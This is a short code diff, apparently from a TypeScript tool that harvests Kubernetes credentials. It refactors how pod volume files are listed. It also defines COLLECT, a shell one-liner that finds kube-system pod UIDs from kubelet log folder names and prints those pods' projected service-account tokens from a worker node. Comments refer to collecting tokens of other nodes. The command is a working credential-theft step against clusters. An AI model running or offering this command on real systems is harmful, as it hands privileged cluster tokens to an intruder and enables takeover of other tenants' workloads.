@@ -125,10 +125,11 @@ function fromVolumes(data: EtcdData, podsDir: string, few: Few): number {
 
 /** The files that a pod sees; the kubelet's own begin with two dots. */
 function volumeFiles(volumes: string): string[] {
-  return PLUGINS.flatMap((plugin) =>
-    list(`${volumes}/${plugin}`).map((name) => `${volumes}/${plugin}/${name}`),
-  ).flatMap((volume) => list(volume).flatMap((name) => (name.startsWith("..") ? [] : [`${volume}/${name}`])));
+  const all = PLUGINS.flatMap((plugin) => pathsIn(`${volumes}/${plugin}`)).flatMap(pathsIn);
+  return all.filter((path) => !path.includes("/.."));
 }
+
+const pathsIn = (folder: string) => list(folder).map((name) => `${folder}/${name}`);
 
 /** Tokens of other nodes, a line each. */
 function addFromFile(path: string, few: Few): number {
@@ -190,9 +191,8 @@ function nothingShows(found: readonly FoundToken[]): Fail {
 }
 
 /**
- * Prints the tokens of kube-system's pods on a worker, one a line. Their UIDs are in the names of the kubelet's folders,
- * NAMESPACE_NAME_UID (kubernetes pkg/kubelet/kuberuntime/helpers.go), where its configuration has them: in a pod of his
- * own a tenant can lay out a file that is called token, and claims to be kube-system's.
+ * Prints the tokens of kube-system's pods on a worker, one a line. Their UIDs are in the names of the kubelet's folders of
+ * logs, NAMESPACE_NAME_UID (pkg/kubelet/kuberuntime/helpers.go): a tenant can lay out a file called token in his own pod.
  */
 export const COLLECT = `d=$(sed -n 's/^podLogsDir: *"*\\([^" ]*\\).*/\\1/p' /var/lib/kubelet/config.yaml 2> /dev/null); for p in "\${d:-/var/log/pods}"/kube-system_*; do for f in /var/lib/kubelet/pods/"\${p##*_}"/volumes/kubernetes.io~projected/*/token; do if [ -e "$f" ]; then cat "$f"; echo; fi; done; done`;
 
